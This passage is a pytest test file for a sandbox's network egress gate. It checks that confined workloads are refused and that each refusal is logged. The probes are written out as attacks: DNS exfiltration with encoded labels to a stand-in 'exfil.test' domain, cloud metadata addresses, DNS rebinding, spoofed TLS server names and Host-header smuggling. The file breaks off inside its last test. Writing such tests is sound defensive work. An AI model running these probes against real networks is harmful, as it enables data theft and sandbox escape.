# SPDX-License-Identifier: Apache-2.0
"""Egress, T-035 to T-048 of docs/security.md: everything a cell can try to get out by another way than the gate, or to
talk the gate into more than a rule says. Each try has its control: the same on the host, or with a rule, gets through.
The canaries write down what reaches them, and what was refused must stand in the journal."""
import json
import os
import signal
import socket
import time

import pytest

from kit import IS_ROOT, proc_start, proc_state, wait_for
from net_kit import Canary, Cell, HttpCanary, Lab, Resolver, certificate, comm, on_host, user_config

CLOSED = {"ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "ECONNRESET"}
REFUSED_NAME = [3, []]  # NXDOMAIN


@pytest.fixture
def http():
    c = HttpCanary()
    yield c
    c.close()


@pytest.fixture
def echo():
    c = Canary()
    yield c
    c.close()


@pytest.fixture
def resolver(home):
    r = Resolver({"allowed.test": ["127.0.0.1"], "x.wild.test": ["127.0.0.1"]})
    user_config(home, f"resolver: {r.at}\n")
    yield r
    r.close()


@pytest.fixture(scope="module")
def tls_canary(tmp_path_factory):
    context, cert = certificate(tmp_path_factory.mktemp("tls"), "canary.test", "other.test")
    c = Canary(tls=context, answer=b"HTTP/1.0 200 OK\r\n\r\nsecret page")
    c.cert = cert
    yield c
    c.close()


def host_addresses():
    """Of this machine's interfaces, without loopback: what other machines would call it."""
    found = []
    for family, far in ((socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")):
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            try:
                s.connect((far, 9))  # asks for the way only
                found.append(s.getsockname()[0])
            except OSError:
                pass
    return found


def gateway():
    with open("/proc/net/route", encoding="ascii") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return ".".join(str(b) for b in bytes.fromhex(fields[2])[::-1])
    return None


def denied_addresses(cell):
    return {(e.get("address"), e.get("port")) for e in cell.events("denied", what="net")}


def must_be_recorded(cell, tried):
    wait_for(lambda: set(tried) <= denied_addresses(cell), 5, 0.1, f"all of {sorted(tried)} in {sorted(denied_addresses(cell), key=str)}")


# --- T-035 to T-038: addresses ------------------------------------------------------------------------------------


def test_raw_connections_without_a_proxy(home, http):
    """T-035."""
    cell = Cell(home, "--allow", f"canary.test:{http.port}=127.0.0.1")
    assert "canary" in on_host(f"say(get('127.0.0.1', {http.port}))")
    tried = [("192.0.2.77", 443), ("192.0.2.77", 80), ("8.8.8.8", 443), ("203.0.113.9", 22), ("198.51.100.1", 1), ("255.255.255.255", 9), ("0.0.0.0", http.port)]
    got = cell.tries(f"""
for k in list(os.environ):
    if k.lower().endswith("_proxy"): del os.environ[k]
say([tcp(a, p) for a, p in {tried!r}])""")
    assert set(got) <= CLOSED | {"EACCES", "EINVAL"}, got
    got = cell.tries(f"say([udp(a, 53) for a, _ in {tried[:4]!r}])")
    assert set(got) <= CLOSED, got
    must_be_recorded(cell, [("192.0.2.77", 443), ("8.8.8.8", 443), ("203.0.113.9", 22), ("8.8.8.8", 53)])
    assert all(e["by"] == "workload" for e in cell.events("denied", what="net"))
    before = len(http.names)
    assert "canary" in cell.tries(f"say(get('canary.test', {http.port}))") and len(http.names) == before + 1
    e = cell.event_with_command("python3", lambda: cell.tries(f"say(get('canary.test', {http.port}))"), "net.request", name="canary.test")
    assert (e["verdict"], e["rule"], e["address"], e["port"]) == ("allow", f"canary.test:{http.port}=127.0.0.1", "127.0.0.1", http.port)
    assert e["exec"] and e["pid"]


def test_metadata_addresses_and_names(home, resolver):
    """T-036. A rule for a name does not help where the name has such an address."""
    resolver.zone.update({"meta4.test": ["169.254.169.254"], "meta6.test": ["fd00:ec2::254"], "meta100.test": ["100.100.100.200"]})
    cell = Cell(home, "--allow", "meta4.test", "--allow", "meta6.test", "--allow", "meta100.test")
    direct = [("169.254.169.254", 80), ("100.100.100.200", 80), ("fd00:ec2::254", 80), ("168.63.129.16", 80), ("169.254.170.2", 80)]
    assert set(cell.tries(f"say([tcp(a, p) for a, p in {direct!r}])")) <= CLOSED
    must_be_recorded(cell, direct)
    names = ["metadata.google.internal", "metadata", "instance-data", "metadata.azure.internal"]
    assert set(cell.tries(f"say([tcp(n, 80) for n in {names!r}])")) == {"no such name"}
    assert not resolver.queries
    for name, address in (("meta4.test", "169.254.169.254"), ("meta6.test", "fd00:ec2::254"), ("meta100.test", "100.100.100.200")):
        got = cell.tries(f"say(get({name!r}, 80))")
        assert got.startswith("HTTP/1.1 502") or got.startswith("HTTP/1.1 403"), got
        e = cell.event("denied", what="address", name=name)
        assert address in e["why"] and "metadata" in e["why"] and e["rule"] == name
    assert {n for n, _ in resolver.queries} == {"meta4.test", "meta6.test", "meta100.test"}


def test_services_of_the_host_and_its_network(home, http, echo):
    """T-037."""
    outside = [Canary(a) for a in host_addresses()]
    places = [("127.0.0.1", http.port), ("127.0.0.1", echo.port), *((c.address, c.port) for c in outside)]
    for a, p in places:
        assert on_host(f"say(tcp({a!r}, {p}, b'GET / HTTP/1.0\\r\\n\\r\\n', 2, False))") not in CLOSED
    before = [c.count for c in (http, echo, *outside)]
    tried = [*places, ("127.0.0.2", http.port), ("127.1.2.3", http.port), ("::1", http.port), ("10.0.0.1", 80), ("172.17.0.1", 80), ("192.168.1.1", 80), (gateway() or "10.0.0.2", http.port)]
    cell = Cell(home)
    assert set(cell.tries(f"say([tcp(a, p, b'x') for a, p in {tried!r}])")) <= CLOSED
    assert set(cell.tries(f"say([udp(a, p) for a, p in {tried!r}])")) <= CLOSED
    names = ["host.docker.internal", "gateway.docker.internal", "host.containers.internal", "host.skep.internal", "kubernetes.default.svc", os.uname().nodename + ".local", "_gateway"]
    assert set(cell.tries(f"say([tcp(n, {http.port}, b'x') for n in {names!r}])")) <= CLOSED | {"no such name"}
    assert [c.count for c in (http, echo, *outside)] == before
    must_be_recorded(cell, [(c.address, c.port) for c in outside])
    own = cell.tries("""
for f, a in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    s = socket.socket(f); s.bind((a, 0)); s.listen()
    say(tcp(a, s.getsockname()[1], b"", 0.2))""")
    assert own == ["TimeoutError"] * 2  # connected, and nobody talks: the cell's own loopback works
    exposed = Cell(home, "--expose-host", str(http.port))
    assert "canary" in exposed.tries(f"say(get('host.skep.internal', {http.port}))")
    assert set(exposed.tries(f"say([tcp('host.skep.internal', {echo.port}, b'x'), tcp('127.0.0.1', {http.port}, b'x')])")) <= CLOSED  # this port under this name only
    for c in outside:
        c.close()


def test_ipv6_of_every_kind(home, http):
    """T-038."""
    v6 = HttpCanary("::1")
    cell = Cell(home, "--allow", f"canary.test:{http.port}=127.0.0.1", "--allow", f"six.test:{v6.port}=[::1]")
    assert "canary" in on_host(f"say(get('::1', {v6.port}))")
    tried = ["2001:db8::1", "2600::1", "fd00::1", "fe80::1", "ff02::1", "64:ff9b::7f00:1", "2002:7f00:1::1", "::ffff:192.0.2.1", "::ffff:127.0.0.1", "::127.0.0.1", "::1", "::", *(a for a in host_addresses() if ":" in a)]
    got = cell.tries(f"""
out = []
for a in {tried!r}:
    with socket.socket(socket.AF_INET6) as s:
        s.settimeout(3)
        try:
            s.connect((a, {v6.port}, 0, 1)); out.append("connected")
        except OSError as e: out.append(name_of(e))
say(out)""")
    assert "connected" not in got and "TimeoutError" not in got, list(zip(tried, got))
    assert set(cell.tries(f"say([udp(a, {v6.port}) for a in {tried[:5]!r}])")) <= CLOSED | {"EINVAL", "EADDRNOTAVAIL", "TimeoutError"}
    assert v6.count == 1
    must_be_recorded(cell, [("2001:db8::1", v6.port), ("fd00::1", v6.port)])
    assert "canary" in cell.tries(f"say(get('six.test', {v6.port}))")  # a rule that names it
    mapped = cell.tries(f"a = ask('canary.test')[1][0]; say(get('::ffff:' + a, {http.port}, name='canary.test'))")
    assert "canary" in mapped  # the same packets, the same gate
    v6.close()


# --- T-039, T-040: questions --------------------------------------------------------------------------------------


def test_names_carry_nothing_out(home, resolver):
    """T-039: not one question leaves for a name that no rule knows, by any way of asking."""
    cell = Cell(home, "--allow", "allowed.test", "--allow", "*.wild.test")
    got = cell.tries("""
import base64
out = []
for i in range(100):
    label = base64.b32encode(os.urandom(30)).decode().lower().strip("=")
    n = label + ".exfil.test"
    out.append(ask(n) if i % 3 else ask(n, stream=True))
    if i < 10:
        try: socket.getaddrinfo(n, 80); out.append("found")
        except OSError: pass
for kind in (2, 5, 6, 12, 15, 16, 28, 33, 35, 43, 48, 64, 65, 252, 255, 256):
    out.append(ask("data.exfil.test", kind)); out.append(ask("data.exfil.test", kind, stream=True))
    out.append(ask("data.allowed.test", kind))  # a rule for a name says nothing of the names below it
say(out)""")
    assert all(a == REFUSED_NAME or (isinstance(a, list) and a[0] in (3, 4, 5) and not a[1]) for a in got), got
    kinds = cell.tries("say([ask('allowed.test', k) for k in (2, 15, 16, 28, 33, 64, 65, 252, 255)])")
    assert all(isinstance(a, list) and not a[1] for a in kinds), kinds  # nothing but addresses
    # Allowed ones are answered without asking either, with addresses that mean nothing outside.
    (rcode, (address,)), (_, (wild,)) = cell.tries("say([ask('allowed.test'), ask(os.urandom(20).hex() + '.wild.test')])")
    assert rcode == 0 and address.startswith(("198.18.", "198.19.")) and wild.startswith(("198.18.", "198.19."))
    assert not resolver.queries
    assert cell.event("denied", what="events")["dropped"] > 0  # a flood is counted, not told
    time.sleep(1)
    cell.tries("say(ask('late.exfil.test'))")
    e = cell.event("denied", what="dns", name="late.exfil.test")
    assert e["why"] == "no rule allows this name" and e["by"] == "gate"
    # The control: where a rule lets a connection be made, the canary is asked, once per family, for this name only.
    cell.tries("say(tcp('allowed.test', 80, b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'))")
    assert resolver.queries and {n for n, _ in resolver.queries} == {"allowed.test"}


def test_other_resolvers(home, resolver):
    """T-040."""
    cell = Cell(home, "--allow", "allowed.test")
    assert on_host(f"say(ask('allowed.test', at=('127.0.0.1', {resolver.port})))")[0] == 0
    resolver.queries.clear()
    places = [("8.8.8.8", 53), ("1.1.1.1", 853), ("9.9.9.9", 443), ("127.0.0.53", 53), ("127.0.0.1", resolver.port), ("224.0.0.251", 5353), ("224.0.0.252", 5355), ("198.18.0.1", 53)]
    with open("/etc/resolv.conf", encoding="utf-8") as f:
        places += [(x.split()[1], 53) for x in f if x.startswith("nameserver") and "." in x]
    got = cell.tries(f"say([[ask('allowed.test', at=tuple(a), wait=0.3), ask('allowed.test', at=tuple(a), stream=True, wait=0.3)] for a in {places!r}])")
    assert all(x in CLOSED or x == "TimeoutError" for pair in got for x in pair if x is not None), list(zip(places, got))
    assert set(cell.tries("say([tcp('dns.google', 443), tcp('cloudflare-dns.com', 443), tcp('one.one.one.one', 853)])")) == {"no such name"}
    six = cell.tries("say([udp('ff02::fb', 5353), udp('ff02::1:3', 5355), udp('2001:4860:4860::8888', 53)])")
    assert all(x in CLOSED or x in ("TimeoutError", "EADDRNOTAVAIL", "EINVAL") for x in six), six
    assert not resolver.queries
    must_be_recorded(cell, [("8.8.8.8", 53), ("1.1.1.1", 853), ("9.9.9.9", 443)])
    assert cell.tries("say(ask('allowed.test'))")[0] == 0


# --- T-041 to T-043: names ----------------------------------------------------------------------------------------


def test_suffixes(home):
    """T-041."""
    cell = Cell(home, "--allow", "allowed.test", "--allow", "*.wild.test", "--allow", "*.deep.wide.test", "--deny", "no.wild.test", "--deny", "*.bad.wild.test")
    yes = ["allowed.test", "a.wild.test", "a.b.c.wild.test", "x.deep.wide.test", "bad.wild.test"]
    no = ["evilallowed.test", "xallowed.test", "allowed.test.evil.test", "www.allowed.test", "allowed.testx", "test", "wild.test", "awild.test", "deep.wide.test", "xdeep.wide.test", "wide.test",
          "no.wild.test", "x.bad.wild.test", "allowed-test", "allowed.tes", "llowed.test", "allowed", "wild.test.evil.test"]
    got = cell.tries(f"say([ask(n)[0] for n in {yes + no!r}])")
    assert dict(zip(yes + no, got)) == {**dict.fromkeys(yes, 0), **dict.fromkeys(no, 3)}
    assert len({x[1][0] for x in cell.tries(f"say([ask(n) for n in {yes!r}])")}) == len(yes)  # no two share an address


def test_canonical_forms_of_names(home, http):
    """T-042: another spelling is the same name or none."""
    port = http.port
    cell = Cell(home, "--allow", f"allowed.test:{port}=127.0.0.1", "--allow", "xn--bcher-kva.test")
    plain = cell.tries("say(ask('allowed.test'))")
    same = cell.tries("say([ask('ALLOWED.test'), ask('', labels=[b'aLLowed', b'TEST'])])")
    assert same == [plain, plain]
    bad = cell.tries(r"""say([ask("", labels=l) for l in ([b"allowed", b"test", b""], [b"allowed\0", b"test"], [b"allowed.test"], [b"allowed%2etest"], [b"allowed ", b"test"], [b"allowed\n", b"test"],
        [b"allowed/", b"test"], [b"a@allowed", b"test"], [b"b\xc3\xbccher", b"test"], [b"b\xfccher", b"test"], [b"-allowed", b"test"], [b"x" * 63, b"y" * 63, b"z" * 63, b"w" * 60, b"allowed", b"test"])])""")
    assert all(a is None or isinstance(a, str) or (a[0] != 0 and not a[1]) for a in bad), bad
    assert cell.tries("say(ask('xn--bcher-kva.test'))")[0] == 0
    # The same in a request: what is not this very name and port gets no further.
    hosts = {f"allowed.test:{port}": True, f"ALLOWED.Test:{port}": True, f"allowed.test.:{port}": None, f"allowed.test:0{port}": False, f"allowed.test:+{port}": False, f"allowed.test:{port} x": False,
             "allowed.test": None, "allowed.test:80": False, f"allowed%2etest:{port}": False, f"a@allowed.test:{port}": False, f"allowed.test\x0b:{port}": False, f"other.test:{port}": False, "127.0.0.1": False,
             "": False, f"[::1]:{port}": False, f"allowed.test:{port},other.test": False}
    got = cell.tries(f"""
out = []
for h in {list(hosts)!r}:
    out.append(tcp("allowed.test", {port}, b"GET / HTTP/1.1\\r\\nConnection: close\\r\\nHost: " + h.encode("latin-1") + b"\\r\\n\\r\\n"))
say(out)""")
    for (h, good), answer in zip(hosts.items(), got):
        if good is not None:
            assert ("canary" in answer) == good, (h, answer)
        if "canary" not in answer:
            assert answer.startswith(("HTTP/1.1 400", "HTTP/1.1 403", "HTTP/1.1 421")), (h, answer)
    assert {tuple(h) for _, h in http.names} == {(f"allowed.test:{port}",)}  # upstream hears one form only
    # And in what a rule says.
    for rule in ("allowed.test:0443", "allowed.test:+443", "allowed.test:443x", "allowed.test:0", "allowed.test:65536", "allowed%2etest", "bücher.test", "a b.test", "allowed..test", "*.*.test", "*", "a.*.test", "*allowed.test"):
        home.skep("policy", "check", "--allow", rule, "allowed.test").fails(2)
    for host, rc in (("ALLOWED.TEST.", 0), ("allowed.test:443", 0), ("allowed.test.evil.test", 5)):
        assert home.skep("policy", "check", "--allow", "Allowed.Test.", host).rc == rc


def test_literals(home, http):
    """T-043: a name in a rule is not its address, and an address is no name."""
    port = http.port
    for rule in ("127.0.0.1", "127.1", "0x7f000001", "2130706433", "0177.0.0.1", "[::1]", "::1", f"127.0.0.1:{port}", "*.1"):
        home.skep("policy", "check", "--allow", rule, "allowed.test").fails(2)
    cell = Cell(home, "--allow", f"allowed.test:{port}=127.0.0.1", "--allow", f"plain.test:{port + 1 if port < 65535 else 1024}")
    asked = cell.tries("say([ask(n) for n in ('127.0.0.1', '0x7f.1', '2130706433', '0177.0.0.1', '127.1', '1.0.0.127.in-addr.arpa', '127.0.0.1.allowed.test')])")
    assert all(a[0] != 0 and not a[1] for a in asked), asked
    lines = [f"GET http://127.0.0.1:{port}/ HTTP/1.1", f"GET http://169.254.169.254/ HTTP/1.1", f"GET http://[::1]:{port}/ HTTP/1.1", f"GET http://other.test:{port}/ HTTP/1.1", f"CONNECT 127.0.0.1:{port} HTTP/1.1",
             f"CONNECT 169.254.169.254:80 HTTP/1.1", f"CONNECT allowed.test:{port} HTTP/1.1", "CONNECT allowed.test:22 HTTP/1.1", f"GET https://allowed.test:{port}/ HTTP/1.1", "TRACE / HTTP/1.1", f"GET @127.0.0.1:{port}/ HTTP/1.1"]
    got = cell.tries(f"""
say([tcp("allowed.test", {port}, (l + "\\r\\nHost: allowed.test:{port}\\r\\nConnection: close\\r\\n\\r\\n").encode()) for l in {lines!r}])""")
    assert all(a.startswith("HTTP/1.1 4") and "canary" not in a for a in got), list(zip(lines, got))
    assert not http.names
    ok = cell.tries(f"""say(tcp("allowed.test", {port}, b"GET http://allowed.test:{port}/x HTTP/1.1\\r\\nHost: allowed.test:{port}\\r\\nConnection: close\\r\\n\\r\\n"))""")
    assert ok.startswith("HTTP/1.1 400") or http.names == [("GET /x HTTP/1.1", [f"allowed.test:{port}"])], ok  # as if it were the short form, or not at all
    assert "canary" in cell.tries(f"say(get('allowed.test', {port}))")
    # SOCKS to an allowed name: bytes like any others to the one address it stands for, which speaks HTTP.
    assert "canary" not in cell.tries(f"say(tcp('allowed.test', {port}, b'\\5\\1\\0' + b'\\5\\1\\0\\1\\x7f\\0\\0\\1\\0\\x50', 1))")


# --- T-044: what a connection says it is for ----------------------------------------------------------------------


def test_server_names(home, tls_canary):
    """T-044, passed through: the name of the handshake is the one that was resolved, and it can be seen."""
    port = tls_canary.port
    cell = Cell(home, "--allow", f"canary.test:{port}=127.0.0.1", "--allow", "canary.test:443=127.0.0.1", "--allow", f"other.test:{port}=127.0.0.1")
    assert "secret page" in on_host(f"say(tls('127.0.0.1', {port}, 'evil.test'))")
    before = tls_canary.count
    good = cell.tries(f"say([tls('canary.test', {port}, 'canary.test'), tls('canary.test', {port}, 'CANARY.test')])")
    assert good == ["HTTP/1.0 200 OK\r\n\r\nsecret page"] * 2 and tls_canary.count == before + 2
    e = cell.event("net.request", name="canary.test", tls=True)
    assert (e["sni"], e["verdict"], e["rule"]) == ("canary.test", "allow", f"canary.test:{port}=127.0.0.1")
    got = cell.tries(f"""
say([tls("canary.test", {port}, n) for n in ("evil.test", "other.test", "www.canary.test", "127.0.0.1", None)])""")
    assert all("page" not in x for x in got), got
    e = cell.event_with_command("python3", lambda: cell.tries(f"say(tls('canary.test', {port}, 'evil.test'))"), "denied", what="sni", name="canary.test", sni="evil.test")
    assert e["why"] == "the TLS server name is not the name that was resolved"
    assert cell.events("denied", what="sni", sni="other.test")  # allowed, too, but not what was dialled
    assert cell.event("denied", what="sni", why="TLS without a server name")
    for p in (port, 443):
        got = cell.tries(f"""
for what in (hello("canary.test", ECH), hello(), hello(b"canary.test\\0.evil.test"), hello("canary.test."), hello("canary.test", b"\\0\\0\\0\\x10\\0\\x0e\\0\\0\\x0b" + b"other.test."), hello("canary.test")[:40] + os.urandom(400),
             b"\\x16\\3\\1\\0\\4\\1\\0\\0\\0", b"\\x16\\3\\1\\xff\\xff" + b"A" * 70000):
    say(tcp("canary.test", {p}, what, 2))""")
        assert all(x in ("ECONNRESET", "BrokenPipeError", "EPIPE") for i, x in enumerate(got) if i != 3), (p, got)
    assert cell.event("denied", what="sni", why="encrypted ClientHello: the name it is for can not be seen")
    # On the port of TLS nothing but TLS; elsewhere what a rule allows may be anything.
    plain = ["b'hello\\n'", "b'GET / HTTP/1.1\\r\\nHost: canary.test\\r\\n\\r\\n'", "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'", "b'SSH-2.0-x\\r\\n'", "b'\\0' * 64"]
    got = cell.tries(f"say([tcp('canary.test', 443, x, 2) for x in ({', '.join(plain)})])")
    assert set(got) == {"ECONNRESET"}, got
    assert {e["why"] for e in cell.events("denied", what="connect", port=443)} == {"not TLS on port 443", "plain HTTP on port 443"}
    assert tls_canary.count == before + 2


def test_hosts_inside_an_opened_connection(home, tls_canary, http):
    """T-044, opened and plain: every request of a connection is for the name it was made to."""
    cell = Cell(home, "--allow", f"canary.test:{http.port}=127.0.0.1", "--allow", f"other.test:{http.port}=127.0.0.1", "--allow", f"canary.test:{tls_canary.port}=127.0.0.1 open")
    assert "canary" in on_host(f"say(get('127.0.0.1', {http.port}, name='evil.test'))")
    first, second = cell.tries(f"""
with socket.create_connection(("canary.test", {http.port})) as s:
    for h in ("canary.test", "other.test"):
        s.sendall(b"GET /%s HTTP/1.1\\r\\nHost: %s:{http.port}\\r\\n\\r\\n" % (h.encode(), h.encode()))
        time.sleep(0.2)
        say(s.recv(65536).decode())""")
    assert "canary" in first and second.startswith("HTTP/1.1 4")
    assert [n for n in http.names if "evil" not in n[1][0]] == [("GET /canary.test HTTP/1.1", [f"canary.test:{http.port}"])]
    e = cell.event("denied", name="canary.test", what="request")
    assert "other.test" in json.dumps(e)  # both names
    # Requests whose first line is malformed, and that servers may take all the same; whole and in pieces.
    firsts = [b" GET / HTTP/1.1", b"\0\tGET / HTTP/1.1", b"G\0T / HTTP/1.1", b"G(T / HTTP/1.1", b"A" * 65 + b" / HTTP/1.1", b"GET\x0b/\x0cHTTP/1.1", b"GET /HTTP/1.1", b"GET /", b"GET / XTTP/1.1", b"\xef\xbb\xbfGET / HTTP/1.1", b"GET / HTTP /1.1"]
    raw = Canary(answer=b"taken\n")
    cell = Cell(home, "--allow", f"canary.test:{raw.port}=127.0.0.1")
    assert cell.tries(f"say(tcp('canary.test', {raw.port}, b'EHLO me\\r\\n', more=False))") == "taken\n"
    cell.tries(f'''
for line in {firsts!r}:
    say(tcp("canary.test", {raw.port}, line + b"\\r\\nHost: evil.test\\r\\n\\r\\n", 1))
    with socket.create_connection(("canary.test", {raw.port})) as s:
        for at in range(0, len(line), 5):
            try:
                s.sendall(line[at:at + 5])
            except OSError:
                break
        try:
            s.sendall(b"\\r\\nHost: evil.test\\r\\n\\r\\n")
            s.recv(100)
        except OSError:
            pass
with socket.create_connection(("canary.test", {raw.port})) as s:
    s.sendall(b" G")
    say(s.recv(100).decode())
    s.sendall(b"ET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
    try:
        say(s.recv(100).decode())
    except OSError:
        pass''')
    assert not [x for x in raw.seen if b"evil.test" in bytes(x)], raw.seen
    assert cell.event("denied", what="connect", why="an HTTP request whose first line is malformed")
    raw.close()
    # Upstream's certificate is not one that anybody vouches for: the opened connection ends there.
    got = cell.tries(f"say(tls('canary.test', {tls_canary.port}, 'canary.test', b'GET / HTTP/1.1\\r\\nHost: canary.test:{tls_canary.port}\\r\\nConnection: close\\r\\n\\r\\n'))")
    assert "secret page" not in got, got
    got = cell.tries(f"say(tls('canary.test', {tls_canary.port}, 'canary.test', b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n'))")
    assert "secret page" not in got, got


def test_refusals_are_told_as_what_they_are(home, resolver, http):
    """A person looks at the journal for who wanted what and why it was not given. What the policy refuses is refused by
    it, also where the host is not there; what it allows and can not be had says why."""
    port = http.port
    resolver.zone["inside.test"] = ["10.1.2.3"]
    cell = Cell(home, "--deny", "denied.test", "--allow", "GET gone.test:1/v1/*=127.0.0.1", "--allow", f"inside.test:{port}", "--allow", f"canary.test:{port}=127.0.0.1")
    cell.tries("say([ask(f'n{i}.test') for i in range(8)] + [ask('denied.test')])")
    told = {e["name"]: e for e in cell.events("denied", what="dns")}
    assert any("python" in told[f"n{i}.test"].get("command", "") for i in range(8)), told  # best effort, as for connections
    assert all("rule" not in told[f"n{i}.test"] and "no rule" in told[f"n{i}.test"]["why"] for i in range(8))
    assert told["denied.test"]["rule"] == "!denied.test" and "denies" in told["denied.test"]["why"]
    # opened, and nobody listens there
    r = home.skep("exec", cell.id, "--", "curl", "-sS", "https://gone.test:1/v2", "https://gone.test:1/v1/x").ok()
    assert r.out.splitlines() == ["skep: refused by policy", "skep: the host can not be reached"]
    assert cell.event("net.request", path="/v2")["verdict"] == "deny"
    e = cell.event("net.request", path="/v1/x")
    assert e["verdict"] == "allow" and e["rule"].startswith("GET gone.test") and "refused" in e["error"]
    # an address that is not to be had, and what is no request
    assert "403 Forbidden" in cell.tries(f"say(get('inside.test', {port}))")
    e = cell.event("net.request", name="inside.test")
    assert e["verdict"] == "deny" and "10.1.2.3" in e["error"]
    assert "400 Bad Request" in cell.tries(f"say(tcp('canary.test', {port}, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))")
    assert cell.event("net.request", name="canary.test")["verdict"] == "deny"


def test_redirects_are_not_followed(home):
    """The gate hands a redirect to the client, which then needs a rule for where it leads."""
    target = HttpCanary()
    source = HttpCanary(status="302 Found", headers=[f"Location: http://127.0.0.1:{target.port}/"])
    cell = Cell(home, "--allow", f"canary.test:{source.port}=127.0.0.1")
    assert "canary" in on_host(f"import urllib.request; say(urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open('http://127.0.0.1:{source.port}/').read().decode())")
    assert target.count == 1
    assert "302 Found" in cell.tries(f"say(get('canary.test', {source.port}))")
    r = home.skep("exec", cell.id, "--", "curl", "-sSL", f"http://canary.test:{source.port}/")
    assert r.rc == 7 and target.count == 1, r.err  # could not connect
    target.close()
    source.close()


# --- T-045: addresses that change ---------------------------------------------------------------------------------


def test_rebinding(home, resolver, http):
    """T-045: an allowed name may not mean this machine, its network or anything else that is not public."""
    places = {"loop": "127.0.0.1", "loop6": "::1", "zero": "0.0.0.0", "any6": "::", "mapped": "::ffff:127.0.0.1", "private": "10.1.2.3", "lan": "192.168.1.1", "link": "169.254.1.1", "ula": "fd00::1", "fe80": "fe80::1",
              "cgnat": "100.64.0.1", "sixtofour": "2002:7f00:1::1", "nat64": "64:ff9b::7f00:1", "multicast": "224.0.0.1", "fake": "198.18.0.1", "doc": "192.0.2.1", **{f"own{i}": a for i, a in enumerate(host_addresses())}}
    resolver.zone.update({f"{n}.rebind.test": [a] for n, a in places.items()})
    port = http.port
    cell = Cell(home, "--allow", f"*.rebind.test:{port}")
    before = http.count
    names = [f"{n}.rebind.test" for n in places]
    got = cell.tries(f"say([get(n, {port}, wait=3) for n in {names!r}])")
    assert all(x.startswith(("HTTP/1.1 5", "HTTP/1.1 403", "ECONNRESET")) for x in got), list(zip(names, got))
    assert http.count == before
    told = {e["name"]: e["why"] for e in cell.events("denied", what="address")}
    assert set(told) == set(names)
    for n, a in places.items():
        assert f"the name has the address {a}" in told[f"{n}.rebind.test"], told
    # Each connection resolves once and uses what it judged: a second look could be told something else.
    resolver.zone["flip.rebind.test"] = [["192.0.2.1"], ["127.0.0.1"], ["192.0.2.1"], ["127.0.0.1"]]
    resolver.queries.clear()
    cell.tries(f"say([get('flip.rebind.test', {port}, wait=3) for _ in range(4)])")
    assert http.count == before and len([1 for n, k in resolver.queries if k == 1]) == 4
    # The control: with a rule that names the address the name gets there, and nobody is asked.
    resolver.queries.clear()
    cell.set("--allow", f"loop.rebind.test:{port}=127.0.0.1")
    assert "canary" in cell.tries(f"say(get('loop.rebind.test', {port}))") and not resolver.queries
    assert cell.event("net.request", name="loop.rebind.test", verdict="allow")["address"] == "127.0.0.1"


@pytest.mark.root
def test_in_a_network_where_all_of_it_answers(home):
    """T-035 to T-038, T-045 once more with a public address, a LAN and a metadata service that are really there."""
    lab = Lab()
    try:
        ports = {a: c.port for a, c in lab.canaries.items()}
        for a, port in ports.items():
            assert lab.connects(a, port), f"the control proves nothing: {a}"
        zone = {"a" + a.replace(".", "-").replace(":", "-") + ".lab.test": [a] for a in ports}
        zone["mixed.lab.test"] = ["10.9.8.7", "11.22.33.44"]
        zone["flip.lab.test"] = [["11.22.33.44"], ["10.9.8.7"]]
        r = lab.resolver(zone)
        lab.enter(home)
        user_config(home, f"resolver: {r.at}\n")
        cell = Cell(home, *(x for p in ports.values() for x in ("--allow", f"*.lab.test:{p}")))
        before = {a: c.count for a, c in lab.canaries.items()}
        got = cell.tries(f"say([tcp(a, p, b'x', 2) for a, p in {list(ports.items())!r}])")
        assert set(got) <= CLOSED, got
        by_name = [(n, ports[zone[n][0]]) for n in zone if n not in ("mixed.lab.test", "flip.lab.test")]
        got = dict(zip((n for n, _ in by_name), cell.tries(f"say([get(n, p, wait=3) for n, p in {by_name!r}])")))
        reached = {zone[n][0] for n, x in got.items() if "canary" in x}
        assert reached == {"11.22.33.44", "2600:1234::5"}, got  # public, and not this machine's own
        assert {a for a, c in lab.canaries.items() if c.count > before[a]} == reached
        port = ports["11.22.33.44"]
        assert "canary" in cell.tries(f"say(get('mixed.lab.test', {port}))")
        assert "canary" in cell.tries(f"say(get('flip.lab.test', {port}))")
        assert "canary" not in cell.tries(f"say(get('flip.lab.test', {ports['10.9.8.7']}))")
        for n in ("mixed.lab.test", "flip.lab.test"):
            assert {e["address"] for e in cell.events("net.request", name=n) if e.get("address")} == {"11.22.33.44"}
        assert lab.canaries["10.9.8.7"].count == before["10.9.8.7"]
        r.close()
    finally:
        home.stop_all()
        lab.leave()
        lab.close()


# --- T-046: no policy ---------------------------------------------------------------------------------------------

NOTHING = {"missing": None, "empty": b"", "comments": b"# net: open\n\n# allow: [canary.test]\n", "bom": b"\xef\xbb\xbf", "bom and comment": b"\xef\xbb\xbf# x\n", "empty list": b"net: {allow: []}\n", "none": b"net: none\n"}
WRONG = {"tabs": b"net:\n\tallow: [canary.test]\n", "number": b"net: 7\n", "unknown key": b"net: {permit: [canary.test]}\n", "bad rule": b"net: {allow: ['canary.test:0443']}\n", "half": b"net: {allow: [canary.test\n", "nul": b"net: no\0ne\n", "star": b"net: {allow: ['*']}\n", "utf-16": "net: open\n".encode("utf-16")}


def test_no_policy_allows_nothing(home, http):
    """T-046."""
    for what, data in NOTHING.items():
        if data is not None:
            user_config(home, data)
        with open(f"{home.dir}/.skep.yaml", "wb") as f:
            f.write(data or b"")
        sid = home.new()
        r = home.skep("exec", sid, "--", "curl", "-sS", "-m", "5", f"http://canary.test:{http.port}/")
        assert r.rc == 6, (what, r.rc, r.err)  # could not resolve
        assert json.loads(home.skep("policy", "show", sid, "--json").ok().out)["policy"]["rules"] == [], what
    assert not http.count
    os.unlink(f"{home.dir}/.skep.yaml")
    for what, data in WRONG.items():
        user_config(home, data)
        r = home.skep("run", "--", "curl", "-sS", "-m", "5", f"http://canary.test:{http.port}/")
